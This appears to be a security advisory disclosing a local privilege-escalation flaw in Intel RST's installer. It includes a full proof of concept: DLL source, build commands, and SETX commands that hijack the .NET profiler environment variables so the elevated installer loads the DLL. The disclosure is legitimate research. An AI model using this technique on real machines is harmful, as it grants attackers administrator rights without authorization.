Intel RST User Interface / Driver Privilege Escalation

Risk: Medium
Local: Yes
Remote: No
CWE: CWE-264

Hi @ll, more than 2 years ago I disclosed 2vulnerabilities leading to local escalation of privilege in the Intel Rapid Storage Technology (Intel RST) User Interface and Driver: see <> and <> Intel fixed this vulnerability only in their executable installer. Some time later Intel rewrote or rebuilt this installer (see < y> for its current version, published 10/15/2020) and incorporated the second vulnerability. CVSS 3.0 score: 8.2 High CVSS 3.0 vector: CVSS:3.0/AV:L/AC:L/PR:L/UI:R/S:C/C:H/I:H/A:H Demonstration: ~~~ 0. Save the following source as sentinel.c in an arbitrary directory: --- sentinel.c --- // Copyright (C) 2004-2021, Stefan Kanthak <> #define STRICT #define UNICODE #define WIN32_LEAN_AND_MEAN #include <windows.h> const STARTUPINFO si = {sizeof(si)}; __declspec(safebuffers) BOOL WINAPI _DllMainCRTStartup(HANDLE hModule, DWORD dwReason, CONTEXT *lpContext) { WCHAR szCmdLine[] = L"CMD.exe /D /K WHOAMI.exe /ALL"; PROCESS_INFORMATION pi; if (CreateProcess(NULL, szCmdLine, NULL, NULL, FALSE, CREATE_DEFAULT_ERROR_MODE | CREATE_NEW_CONSOLE | CREATE_NEW_PROCESS_GROUP | CREATE_UNICODE_ENVIRONMENT, NULL, NULL, &si, &pi)) { CloseHandle(pi.hThread); CloseHandle(pi.hProcess); } return TRUE; } --- EOF --- 1. Start the command prompt of the 32-bit Windows Software Development Kit, then run the following command lines to compile sentinel.c and link it as sentinel.dll: cl.exe /Zl /W4 /O2 /GAFy /c sentinel.c link.exe /LINK /DLL /DYNAMICBASE /ENTRY:_DllMainCRTStartup /NODEFAULTLIB /NXCOMPAT /RELEASE /SUBSYSTEM:Windows sentinel.obj kernel32.lib ALTERNATIVE for steps 0 and 1: 1. Download <> and save it in an arbitrary directory. 2. Logon with the user account created during Windows setup. 3. Start a command prompt (unelevated!) and run the following command lines (replace <directory>with the pathname of the directory where you built or saved sentinel.dll): SETX.exe COR_ENABLE_PROFILING 1SETX.exe COR_PROFILER {32E2F4DA-1BEA-47EA-88F9-C5DAF691C94A} SETX.exe COR_PROFILER_PATH <directory>\sentinel.dll JFTR: this is just one method to set these environment variableswithout the need to elevate! 4. Download <> and save it in an arbitrary directory. 5. Execute SetupRST.exe per double-click, acknowledge the UAC prompt, then admire the console windows showing the output of WHOAMI.exe running elevated. stay tuned, and FAR AWAY from vulnerable crap built by Intel Stefan Kanthak

Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Yourmessage is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date:{{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{x.comment }}

Copyright 2021,


Back to Top